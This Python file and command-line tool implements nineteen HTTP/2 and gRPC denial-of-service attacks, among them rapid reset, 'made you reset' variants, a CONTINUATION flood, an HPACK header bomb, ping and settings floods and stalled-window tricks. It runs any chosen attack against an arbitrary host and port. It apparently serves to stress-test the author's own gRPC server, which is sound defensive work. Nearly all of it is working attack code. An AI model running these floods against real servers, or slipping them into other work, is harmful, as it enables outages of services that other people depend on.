"""Attacks of hostile HTTP/2 clients, frame by frame. As a program:
`attacks.py HOST PORT NAME SECONDS` repeats one attack and prints the results of its connections as JSON."""

import json
import socket
import struct
import sys
import time

from upstream import SHOP

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
GOAWAY = 7
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INITIAL_WINDOW_SIZE = 4
CANCEL = 8
#: The duration of the attack on one connection.
ROUND = 3.0


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(text):
    return bytes([len(text)]) + text.encode()


def head(method="Repeat"):
    """The headers of a gRPC call in HPACK, without the dynamic table."""
    return (
        b"\x83\x86"
        + b"\x04" + _text(f"{SHOP}/{method}")
        + b"\x01" + _text("localhost")
        + b"\x0f\x10" + _text("application/grpc")
        + b"\x00" + _text("te") + _text("trailers")
    )


def settings(**values):
    return b"".join(struct.pack(">HI", number, value) for number, value in values.items())


class Connection:
    """A connection after the HTTP/2 preface. A failed write means that the server has closed it."""

    def __init__(self, host, port, window=65_535):
        self.socket = socket.create_connection((host, int(port)), timeout=5)
        self.stream = -1
        self.goaway = None
        self.received = b""
        self.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, window)))

    def send(self, data):
        self.socket.sendall(data)

    def next_stream(self):
        self.stream += 2
        return self.stream

    def open(self, flags=END_HEADERS, method="Repeat"):
        stream = self.next_stream()
        return stream, frame(HEADERS, flags, stream, head(method))

    def drain(self):
        """Reads the received bytes without waiting. Raises an error if the server has closed the connection."""
        self.socket.setblocking(False)
        try:
            while True:
                piece = self.socket.recv(1 << 20)
                if not piece:
                    raise ConnectionResetError("closed")
                self.received += piece
                self._look()
        except BlockingIOError:
            pass
        finally:
            self.socket.settimeout(5)

    def _look(self):
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + length:
                return
            if self.received[3] == GOAWAY:
                self.goaway = struct.unpack(">I", self.received[13:17])[0]
            self.received = self.received[9 + length :]


def note(count):
    """A request for `count` responses of 1 000 bytes."""
    from shop import Note

    message = Note(text="b" * 1_000, count=count).SerializeToString()
    return struct.pack(">BI", 0, len(message)) + message


# Each attack sends one burst, which is repeated until the connection closes or the round ends.


def rapid_reset(c):
    for _ in range(100):
        stream, opened = c.open()
        c.send(opened + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))


def made_you_reset_by_empty_window(c):
    for _ in range(100):
        stream, opened = c.open()
        c.send(opened + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))


def made_you_reset_by_large_window(c):
    for _ in range(100):
        stream, opened = c.open()
        c.send(opened + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 2**31 - 1)))


def made_you_reset_by_priority_size(c):
    for _ in range(100):
        stream, opened = c.open()
        c.send(opened + frame(PRIORITY, 0, stream, b"\0" * 4))


def made_you_reset_by_priority_on_itself(c):
    for _ in range(100):
        stream, opened = c.open()
        c.send(opened + frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 1)))


def made_you_reset_by_data_after_the_end(c):
    for _ in range(100):
        stream, opened = c.open(END_HEADERS | END_STREAM)
        c.send(opened + frame(DATA, 0, stream, b"x"))


def made_you_reset_by_headers_after_the_end(c):
    for _ in range(100):
        stream, opened = c.open(END_HEADERS | END_STREAM)
        c.send(opened + frame(HEADERS, END_HEADERS, stream, head()))


def continuation_flood(c):
    if c.stream < 0:
        c.send(frame(HEADERS, 0, c.next_stream(), head()))
    # A header that a server must decode, 1 000 times in a frame.
    c.send(frame(CONTINUATION, 0, c.stream, (b"\x00" + _text("x") + _text("y")) * 1_000) * 20)


def header_bomb(c):
    # A large header in the dynamic table, and 3 000 references to it.
    field = b"\x40" + _text("x") + b"\x7f" + b"\x81\x1e" + b"y" * 4_000
    c.send(frame(HEADERS, END_HEADERS, c.next_stream(), head() + field + b"\xbe" * 3_000))


def empty_data_frames(c):
    if c.stream < 0:
        stream, opened = c.open()
        c.send(opened)
    c.send(frame(DATA, 0, c.stream) * 5_000)


def settings_flood(c):
    c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65_535)) * 2_000)


def ping_flood(c):
    c.send(frame(PING, 0, 0, b"12345678") * 2_000)


def unread_pings(c):
    # The client never reads the responses, so that they accumulate at the server.
    c.unread = True
    c.send(frame(PING, 0, 0, b"12345678") * 2_000)


def priority_flood(c):
    c.send(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)) * 2_000)


def unknown_frames(c):
    c.send(frame(0xBE, 0, 0, b"nothing") * 2_000)


def stalled_windows(c):
    # Requests responses with a flow-control window of zero.
    if c.stream < 100:
        stream, opened = c.open()
        c.send(opened + frame(DATA, END_STREAM, stream, note(100_000)))
    else:
        c.send(frame(PING, 0, 0, b"12345678"))
        time.sleep(0.05)


def window_update_flood(c):
    # WINDOW_UPDATE frames for bytes that were never sent.
    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 2_000)


def window_by_bytes(c):
    # A window that grows byte by byte, which causes many small writes.
    if c.stream < 20:
        stream, opened = c.open()
        c.send(opened + frame(DATA, END_STREAM, stream, note(100_000)))
    c.send(b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in range(1, c.stream + 1, 2)) * 20)


def garbage(c):
    c.send(bytes(range(256)) * 64)


ATTACKS = [
    rapid_reset,
    made_you_reset_by_empty_window,
    made_you_reset_by_large_window,
    made_you_reset_by_priority_size,
    made_you_reset_by_priority_on_itself,
    made_you_reset_by_data_after_the_end,
    made_you_reset_by_headers_after_the_end,
    continuation_flood,
    header_bomb,
    empty_data_frames,
    settings_flood,
    ping_flood,
    unread_pings,
    priority_flood,
    unknown_frames,
    stalled_windows,
    window_update_flood,
    window_by_bytes,
    garbage,
]


def attack(host, port, name, seconds):
    burst = next(one for one in ATTACKS if one.__name__ == name)
    outcome = {"connections": 0, "closed": 0, "goaway": {}}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            connection = Connection(host, port, window=0 if name in ("stalled_windows", "window_by_bytes") else 65_535)
        except OSError:
            continue
        outcome["connections"] += 1
        round_end = min(time.monotonic() + ROUND, end)
        try:
            while time.monotonic() < round_end:
                burst(connection)
                if not getattr(connection, "unread", False):
                    connection.drain()
        except (BrokenPipeError, ConnectionResetError):
            outcome["closed"] += 1
        except TimeoutError:
            # The server stopped reading: backpressure stops the attacker.
            outcome["held"] = outcome.get("held", 0) + 1
        if connection.goaway is not None:
            code = str(connection.goaway)
            outcome["goaway"][code] = outcome["goaway"].get(code, 0) + 1
        connection.socket.close()
    return outcome


if __name__ == "__main__":
    _, host, port, name, seconds = sys.argv
    print(json.dumps(attack(host, port, name, float(seconds))))
